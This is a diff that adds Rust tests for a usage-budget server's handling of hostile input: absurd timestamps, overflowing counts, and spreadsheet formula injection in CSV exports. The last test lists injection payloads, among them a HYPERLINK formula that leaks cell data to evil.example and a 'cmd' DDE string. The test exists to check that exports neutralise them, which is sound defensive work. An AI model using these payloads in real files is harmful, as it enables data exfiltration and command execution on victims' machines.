@@ -1,0 +1,165 @@
+//! Single lines of hostile input against a server with data and budgets: none
+//! may break the books, lift a gateway's throttle, or turn into a 500.
+
+use reqwest::Method;
+use serde_json::Value;
+use tollgate_store::testing::TestStore;
+use tollgate_web::Role::{Finops, Operator};
+
+use crate::helpers::{TestApp, requests, token_budget};
+use crate::pages::Browser;
+
+/// sub-a's entry in the test gateway's view.
+async fn sub_a(app: &TestApp) -> Value {
+    let view = app.pull().await;
+    view["entries"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["counter_key"] == "subscription:sub-a")
+        .unwrap()
+        .clone()
+}
+
+/// Every report and page FinOps and operators read answers 200.
+async fn books_answer(app: &TestApp) {
+    for path in [
+        "/api/v1/reports/chargeback?month=2026-10&by=subscription",
+        "/api/v1/reports/chargeback?month=2026-09&by=model",
+        "/api/v1/exports/focus?month=2026-10",
+        "/api/v1/budgets",
+        "/api/v1/reports/sla?month=2026-10",
+    ] {
+        let response = app.get(path, Finops).await;
+        let status = response.status();
+        assert_eq!(status, 200, "{path}: {}", response.text().await.unwrap());
+    }
+    let mut browser = Browser::new(app);
+    browser.login(Finops).await;
+    browser.page("/finops?month=2026-10").await;
+    let mut browser = Browser::new(app);
+    browser.login(Operator).await;
+    browser.page("/operations?month=2026-10").await;
+}
+
+pub async fn one_dated_line_cannot_break_the_books_or_lift_a_throttle(store: TestStore) {
+    let app = TestApp::spawn(store).await;
+    app.push_ok(&requests(
+        "spent",
+        "2026-10-05T10:00:00Z",
+        "sub-a",
+        11,
+        60,
+        40,
+    ))
+    .await;
+    let created = app
+        .send_json(
+            Method::POST,
+            "/api/v1/budgets",
+            Finops,
+            &token_budget("sub-a", "sub-a", 1000, "throttle"),
+        )
+        .await;
+    assert_eq!(created.status(), 201);
+    let before = sub_a(&app).await;
+    assert_eq!(before["state"], "exhausted");
+    assert_eq!(before["action"]["kind"], "throttle");
+
+    // 0001 and 9999 made every report answer 400 ("Overflow converting ... to
+    // Nanosecond"); 2030 moved the budget period and lifted the throttle.
+    for time in [
+        "0001-01-01T00:00:00Z",
+        "9999-12-31T00:00:00Z",
+        "2030-01-01T00:00:00Z",
+    ] {
+        let answer = app.push_ok(&requests("odd", time, "sub-a", 1, 1, 1)).await;
+        assert_eq!(answer["counts"]["written"], 0, "{time}: {answer}");
+        assert_eq!(answer["counts"]["quarantined"], 1, "{time}: {answer}");
+        books_answer(&app).await;
+        let after = sub_a(&app).await;
+        assert_eq!(after["state"], "exhausted", "{time}");
+        assert_eq!(after["action"], before["action"], "{time}");
+        assert_eq!(after["period_start"], "2026-10-01T00:00:00+00:00", "{time}");
+    }
+    // Later traffic keeps the throttle.
+    app.push_ok(&requests(
+        "more",
+        "2026-10-06T10:00:00Z",
+        "sub-a",
+        1,
+        10,
+        10,
+    ))
+    .await;
+    assert_eq!(sub_a(&app).await["action"]["kind"], "throttle");
+    app.stop().await;
+}
+
+pub async fn absurd_counts_are_refused_and_a_retry_gets_the_first_answer(store: TestStore) {
+    let app = TestApp::spawn(store).await;
+    let huge = 9_223_372_036_854_775_000i64;
+    let body = requests("big", "2026-10-05T10:00:00Z", "sub-a", 2, huge, 1)
+        + &requests("fine", "2026-10-05T10:00:00Z", "sub-a", 1, 10, 10);
+    let first = app.push(&body, Some("retry-me")).await;
+    assert_eq!(first.status(), 200);
+    let first: Value = first.json().await.unwrap();
+    assert_eq!(first["counts"]["written"], 1, "{first}");
+    assert_eq!(first["counts"]["quarantined"], 2, "{first}");
+    let retry = app.push(&body, Some("retry-me")).await;
+    assert_eq!(retry.status(), 200);
+    assert_eq!(retry.headers()["idempotent-replayed"], "true");
+    assert_eq!(retry.json::<Value>().await.unwrap(), first);
+    app.push_ok(&requests(
+        "after",
+        "2026-10-05T11:00:00Z",
+        "sub-a",
+        1,
+        10,
+        10,
+    ))
+    .await;
+    books_answer(&app).await;
+    app.stop().await;
+}
+
+pub async fn spreadsheet_formulas_arrive_inert_in_every_csv(store: TestStore) {
+    let app = TestApp::spawn(store).await;
+    let formulas = [
+        r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+    ];
+    for (i, formula) in formulas.iter().enumerate() {
+        app.push_ok(&requests(
+            &format!("f{i}"),
+            "2026-10-05T10:00:00Z",
+            formula,
+            1,
+            10,
+            10,
+        ))
+        .await;
+    }
+    for path in [
+        "/api/v1/reports/chargeback?month=2026-10&by=subscription,model&format=csv",
+        "/api/v1/exports/focus?month=2026-10",
+    ] {
+        let response = app.get(path, Finops).await;
+        assert_eq!(response.status(), 200, "{path}");
+        let text = response.text().await.unwrap();
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let mut seen = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                let live = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+                assert!(!live, "{path}: {cell:?}\n{text}");
+                seen += formulas.iter().filter(|f| cell == format!("'{f}")).count();
+            }
+        }
+        assert!(seen >= formulas.len(), "{path}: {seen}\n{text}");
+    }
+    app.stop().await;
+}
